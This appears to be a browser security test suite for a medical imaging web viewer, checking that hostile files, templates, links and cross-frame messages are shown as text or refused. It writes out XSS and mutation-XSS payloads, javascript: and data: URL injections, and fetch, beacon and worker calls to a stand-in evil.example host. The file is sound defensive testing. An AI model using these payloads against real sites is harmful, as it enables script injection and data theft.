/** Inputs made to do harm, each given to the page in the way that it comes in: nothing runs, nothing leaves. */
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import {
  archives,
  images,
  logos,
  models,
  script,
  settingsFiles,
  templates,
  zipOf,
  type HostileFile,
} from '../security/hostile';
import { poisonedStudy } from '../security/objects';
import { launch, picture, root, servePage, visit } from './browser';
import { writeDemo } from './demo-files';
import { classicMrrt, editorMrrt } from './mrrt-files';
import { isBrowsersOwn, recordingProxy, type RecordingProxy } from './recording-proxy';
import { exportAs, imageLoaded, minutes, showTab } from './steps';

const folder = mkdtempSync(join(tmpdir(), 'lamplight-hostile-'));
const put = ({ name, bytes }: HostileFile, under = ''): string => {
  mkdirSync(join(folder, under), { recursive: true });
  const path = join(folder, under, name);
  writeFileSync(path, bytes);
  return path;
};

let browser: Browser;
let server: Awaited<ReturnType<typeof servePage>>;
let proxy: RecordingProxy;
/** Origins that stand up in a test. */
const origins: string[] = [];

beforeAll(async () => {
  server = await servePage();
  origins.push(new URL(server.url).origin);
  proxy = await recordingProxy(origins);
  browser = await launch({ args: proxy.flags });
});
afterAll(async () => {
  await browser?.close();
  await proxy?.close();
  await server?.close();
  rmSync(folder, { recursive: true, force: true });
});

const dialogs: string[] = [];
const pages = new Set<Page>();

async function fresh(address = server.url): Promise<Page> {
  const { page } = await visit(browser, address, { serviceWorkers: 'allow' });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  pages.add(page);
  return page;
}

/** Did anything run, in any page or frame, or ask another place for something? */
afterEach(async () => {
  expect(dialogs).toEqual([]);
  for (const page of pages) {
    for (const frame of page.frames()) {
      const traces = await frame
        .evaluate(() => {
          const here = globalThis as { pwned?: unknown; ran?: unknown };
          const object = {} as { polluted?: unknown };
          return [here.pwned, here.ran, object.polluted, ([] as typeof object).polluted].map(String).join();
        })
        .catch(() => 'undefined,undefined,undefined,undefined');
      expect(traces).toBe('undefined,undefined,undefined,undefined');
    }
    await page.context().close();
  }
  pages.clear();
  const foreign = proxy.requests.filter(
    (one) => !isBrowsersOwn(one) && !origins.some((origin) => one.url.startsWith(`${origin}/`)),
  );
  expect(foreign).toEqual([]);
  expect(proxy.requests.filter(({ bytes }) => bytes > 0)).toEqual([]);
});

const give = async (page: Page, paths: readonly string[]): Promise<string> => {
  await page
    .getByTestId('open-files')
    .first()
    .setInputFiles([...paths]);
  await page
    .locator('[data-testid="file-summary"], [data-testid="open-problem"]')
    .first()
    .waitFor({ timeout: minutes(2) });
  await page.waitForFunction(() => !document.querySelector('[data-testid="open-progress"]'));
  const summary = page.getByTestId('file-summary').first();
  if ((await summary.count()) > 0) await summary.click();
  return (await page.locator('body').textContent()) ?? '';
};

describe('files', () => {
  test('images whose names and texts are markup are shown as text', async () => {
    const page = await fresh();
    const all = images();
    expect(all).toHaveLength(10);
    const named = { what: 'file name', name: '<img src=x onerror=pwned=1>.txt', bytes: new Uint8Array(9) };
    await give(
      page,
      [...all, named].map((one) => put(one)),
    );
    await imageLoaded(page);
    const items = page.getByTestId('series-item');
    const count = await items.count();
    expect(count).toBeGreaterThanOrEqual(9);
    const said: string[] = [];
    for (let n = 0; n < count; n++) {
      await items.nth(n).click();
      said.push((await page.locator('body').textContent()) ?? '');
    }
    // It was shown, not swallowed.
    expect(said.some((text) => text.includes('onerror=pwned=1'))).toBe(true);
    await picture(page, 'security-images');
  });

  test('a report, outlines, key images and marks of markup are read, and leave again as text', async () => {
    const page = await fresh();
    // The report brings work into the page: whenever it asks, it is let in.
    await page.addLocatorHandler(page.getByTestId('resume-dialog'), () =>
      page.getByTestId('resume-take').click(),
    );
    const paths = (await poisonedStudy()).map((bytes, n) =>
      put({ what: '', name: `${n}.dcm`, bytes }, 'objects'),
    );
    await give(page, paths);
    await imageLoaded(page);
    const objects = page.locator('[data-testid="series-item"]:has(.thumbnail-object)');
    for (let n = 0; n < (await objects.count()); n++) {
      await objects.nth(n).click();
      await page.getByTestId('object-panel').or(page.getByTestId('notice-link')).first().waitFor();
    }
    await page.getByTestId('object-close').click();
    await showTab(page, 'report');
    const html = readFileSync(await exportAs(page, 'html', folder), 'utf8');
    expect(html).toContain('&lt;img');
    // In a page without any policy, as the one who gets it by mail opens it.
    const plain = await page.context().newPage();
    await plain.setContent(html);
    expect(await plain.evaluate(() => (globalThis as { pwned?: unknown }).pwned)).toBeUndefined();
    expect(await plain.locator('script, iframe, object, embed, [onerror], [onload]').count()).toBe(0);
    const fhir = JSON.parse(readFileSync(await exportAs(page, 'fhir', folder), 'utf8')) as unknown;
    const narratives: string[] = [];
    JSON.stringify(fhir, (key: string, value: unknown) => {
      if (key === 'div' && typeof value === 'string') narratives.push(value);
      return value;
    });
    for (const one of narratives) expect(one).not.toMatch(/<(img|svg|script)/i);
    for (const what of ['docx', 'pdf', 'txt', 'json', 'sr'] as const) await exportAs(page, what, folder);
  });

  test('archives that want out of their folder, or to fill the memory, are named or opened in bounds', async () => {
    const page = await fresh();
    const said = await give(
      page,
      archives().map((one) => put(one)),
    );
    for (const { name } of archives().filter((one) => !['names.zip', 'traversal.zip'].includes(one.name)))
      expect(said, name).toContain(name);
    expect(said).toContain('entries overlap');
    expect(said).toMatch(/4294967280 bytes/);
    const used = await page.evaluate(
      () => (performance as unknown as { memory: { usedJSHeapSize: number } }).memory.usedJSHeapSize,
    );
    expect(used).toBeLessThan(600e6);
    // And the page goes on.
    await page
      .getByTestId('open-files')
      .first()
      .setInputFiles(writeDemo(join(folder, 'good'), 80, 82));
    await imageLoaded(page);
  });
});

describe('what is brought in', () => {
  test('settings, templates and logos', async () => {
    const page = await fresh();
    await page.getByTestId('open-demo').waitFor();
    await page.keyboard.press('Shift+S');
    for (const one of settingsFiles()) {
      await page.getByTestId('settings-import').setInputFiles(put(one));
      await expect
        .poll(() => page.locator('[data-testid="settings"] [role="status"]').first().textContent())
        .not.toBe('');
    }
    await page.getByTestId('settings-done').click();
    await page
      .getByTestId('open-files')
      .first()
      .setInputFiles(writeDemo(join(folder, 'few'), 80, 82));
    await imageLoaded(page);
    await showTab(page, 'report');
    await page.getByTestId('report-setup').click();
    for (const { what, name, bytes, kept } of logos()) {
      await page
        .getByTestId('logo-file')
        .setInputFiles({ name, mimeType: 'image/svg+xml', buffer: Buffer.from(bytes) });
      if (!kept)
        await expect
          .poll(() => page.locator('[data-testid="report-setup-dialog"]').textContent(), { message: what })
          .toMatch(/SVG|could not|decode/i);
    }
    await page.getByTestId('setup-tab-templates').click();
    const mrrt = [
      classicMrrt,
      editorMrrt,
      `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css"><title>${script}</title></head><body><form action="https://evil.example/"><input autofocus onfocus="ran=1"></form><math><mtext><table><mglyph><style><img src=x onerror=ran=1></style></mglyph></table></mtext></math></body></html>`,
    ];
    const files = [
      ...mrrt.map((text, n) => ({ name: `${n}.html`, mimeType: 'text/html', buffer: Buffer.from(text) })),
      ...templates().map(({ name, bytes }) => ({
        name,
        mimeType: 'application/json',
        buffer: Buffer.from(bytes),
      })),
    ];
    await page.getByTestId('template-file').setInputFiles(files);
    await expect.poll(() => page.getByTestId('template-said').locator('p').count()).toBe(files.length);
    await picture(page, 'security-templates');
  });

  test('models', async () => {
    const page = await fresh();
    await page.getByTestId('open-models').click();
    for (const [n, files] of models().entries()) {
      await page.getByTestId('import-files').setInputFiles(files.map((one) => put(one, `model${n}`)));
      await page
        .getByTestId('import-dialog')
        .locator('[role="alert"], [data-testid="import-refused"]')
        .first()
        .waitFor({ timeout: minutes(1) });
      await page
        .getByTestId('import-discard')
        .or(page.getByTestId('import-dialog').getByRole('button').last())
        .first()
        .click();
    }
    expect(
      await page.evaluate(async () =>
        (await (await caches.open('lamplight-models')).keys()).some(({ url }) => url.includes('evil')),
      ),
    ).toBe(false);
  });
});

describe('links and messages', () => {
  const links: readonly (readonly [query: string, said: RegExp])[] = [
    ['?url=javascript:pwned=1', /javascript:pwned=1/],
    ['?url=data:text/html,<script>pwned=1</script>', /http or https/],
    ['?url=//evil.example/a.zip', /evil\.example/],
    ['?url=https://user:secret@evil.example/a.zip', /name or a password/],
    [`?study=${encodeURIComponent(script)}&server=x`, /no study instance UID/],
    [`?study=1.2.3&server=${encodeURIComponent(script)}`, /No server/],
  ];

  test('links to scripts, other places and things that are none are refused with a word', async () => {
    const page = await fresh();
    for (const [query, said] of links) {
      await page.goto(`${server.url}${query}`);
      const notice = page.getByTestId('notice-link');
      await notice.waitFor({ timeout: minutes(1) });
      expect(await notice.textContent(), query).toMatch(said);
      expect(await notice.textContent()).not.toContain('secret');
    }
    await picture(page, 'security-link');
  });

  /** A page of another program: what it says to the frame and what it hears stands in `heard`. */
  const otherPage = async (app: string) => {
    const html = `<iframe src="${app}" style="width:900px;height:600px"></iframe><script>
      heard = []; addEventListener('message', (e) => heard.push({ origin: e.origin, ...e.data }));
      say = (data, target) => frames[0].postMessage(data, target);</script>`;
    const made = createServer((...[, response]) =>
      response.writeHead(200, { 'content-type': 'text/html' }).end(html),
    );
    await new Promise<void>((done) => made.listen(0, '127.0.0.1', done));
    const origin = `http://localhost:${(made.address() as AddressInfo).port}`;
    origins.push(origin);
    return { origin, close: () => made.close() };
  };
  type Heard = { origin: string; status: string; id?: number; reason?: string };
  const heard = (page: Page): Promise<Heard[]> =>
    page.evaluate(() => (globalThis as unknown as { heard: Heard[] }).heard);
  const say = (page: Page, data: object, target: string): Promise<void> =>
    page.evaluate(
      ([what, to]) => (globalThis as unknown as { say: (data: object, to: string) => void }).say(what, to),
      [data, target] as const,
    );

  test('the origin that is named opens a study and is answered; another one is not heard; nobody else may frame the page', async () => {
    const dist = join(folder, 'dist');
    cpSync(join(root, 'dist'), dist, { recursive: true });
    const slices = writeDemo(join(folder, 'zip'), 80, 82).map((path, n) => ({
      name: `${n}.dcm`,
      data: new Uint8Array(readFileSync(path)),
    }));
    writeFileSync(join(dist, 'study.zip'), zipOf(slices));
    const { serve } = await import('../../scripts/serve.mjs');
    // The port is known before the policy is made: the other pages name it, and it names them.
    const probe = await serve(0, dist);
    const port = Number(new URL(probe.url).port);
    await probe.close();
    const address = `http://localhost:${port}/`;
    const [ris, evil] = [await otherPage(address), await otherPage(address)];
    writeFileSync(
      join(dist, 'links.json'),
      JSON.stringify({ frames: [ris.origin, evil.origin], messages: [ris.origin] }),
    );
    const app = await serve(port, dist);
    expect(app.url).toBe(address);
    origins.push(new URL(address).origin);

    const page = await fresh(ris.origin);
    await expect
      .poll(async () => (await heard(page)).map(({ status }) => status), { timeout: minutes(1) })
      .toContain('ready');
    const frame = page.frames().find((one) => one.url().startsWith(address))!;
    expect(await frame.evaluate(() => crossOriginIsolated)).toBe(true);
    const target = new URL(address).origin;
    await say(page, { lamplight: 1, id: 1, url: 'study.zip' }, target);
    await expect
      .poll(async () => (await heard(page)).filter(({ id }) => id === 1).map(({ status }) => status), {
        timeout: minutes(1),
      })
      .toEqual(['opening', 'open']);
    await frame.getByTestId('study-name').waitFor();
    for (const [id, data, reason] of [
      [2, { url: 'javascript:pwned=1' }, 'scheme'],
      [3, { url: 'https://evil.example/a.zip' }, 'notAllowed'],
      [4, { study: script }, 'notUid'],
      [5, { study: '1.2.3', server: script }, 'noServer'],
      [6, { eval: 'pwned=1' }, 'nothing'],
    ] as const) {
      await say(page, { lamplight: 1, id, ...data }, target);
      await expect
        .poll(async () => (await heard(page)).findLast((one) => one.id === id))
        .toMatchObject({ origin: target, status: 'refused', reason });
    }
    await say(page, { lamplight: 1, id: 7, ask: 'status' }, target);
    await expect
      .poll(async () => (await heard(page)).find(({ id }) => id === 7))
      .toMatchObject({ status: 'ready' });
    await picture(page, 'security-framed');

    const other = await fresh(evil.origin);
    const warned: string[] = [];
    other.on('console', (message) => warned.push(message.text()));
    const inside = () => other.frames().find((one) => one.url().startsWith(address));
    await expect.poll(() => inside()?.getByTestId('open-demo').count(), { timeout: minutes(1) }).toBe(1);
    await say(other, { lamplight: 1, id: 9, url: 'study.zip' }, target);
    await expect
      .poll(() => warned.some((text) => text.includes('was not heard')), { timeout: minutes(1) })
      .toBe(true);
    expect(await heard(other)).toEqual([]);
    expect(await inside()!.getByTestId('study-name').count()).toBe(0);

    // The page as it comes lets nobody frame it.
    const framed = await otherPage(server.url);
    const third = await fresh(framed.origin);
    await expect.poll(() => third.frames().some((one) => one.url().startsWith('chrome-error:'))).toBe(true);
    for (const one of [ris, evil, framed]) one.close();
    await app.close();
  });
});

describe('the policy', () => {
  test('no text becomes a script or markup, nothing is sent elsewhere, no worker of elsewhere starts', async () => {
    const page = await fresh();
    const tried = await page.evaluate(async () => {
      const attempt = async (work: () => unknown): Promise<string> => {
        // What a debugger calls may do what the page may not: so it is called later, by nobody.
        await new Promise((later) => setTimeout(later));
        try {
          await work();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : String(error);
        }
      };
      const evil = 'https://evil.example/x';
      return {
        // oxlint-disable-next-line no-eval
        eval: await attempt(() => (0, eval)('1+1')),
        // oxlint-disable-next-line typescript/no-implied-eval
        function: await attempt(() => new Function('return 1')()),
        html: await attempt(() => (document.body.innerHTML = '<b>x</b>')),
        adjacent: await attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
        worker: await attempt(() => new Worker('data:text/javascript,1')),
        foreignWorker: await attempt(() => new Worker(evil)),
        policy: await attempt(() =>
          (
            globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
          ).trustedTypes.createPolicy('mine', {}),
        ),
        fetch: await attempt(() => fetch(evil)),
        beacon: String(navigator.sendBeacon(evil, 'x')),
        image: await attempt(
          () =>
            new Promise((resolve, reject) => {
              const image = new Image();
              image.addEventListener('load', resolve);
              image.addEventListener('error', () => reject(new TypeError('refused')));
              image.src = evil;
            }),
        ),
      };
    });
    expect(tried).toMatchObject({
      html: 'TypeError',
      adjacent: 'TypeError',
      worker: 'TypeError',
      foreignWorker: 'TypeError',
      policy: 'TypeError',
      fetch: 'TypeError',
      image: 'TypeError',
    });
    for (const how of [tried.eval, tried.function]) expect(['EvalError', 'TypeError']).toContain(how);
  });
});
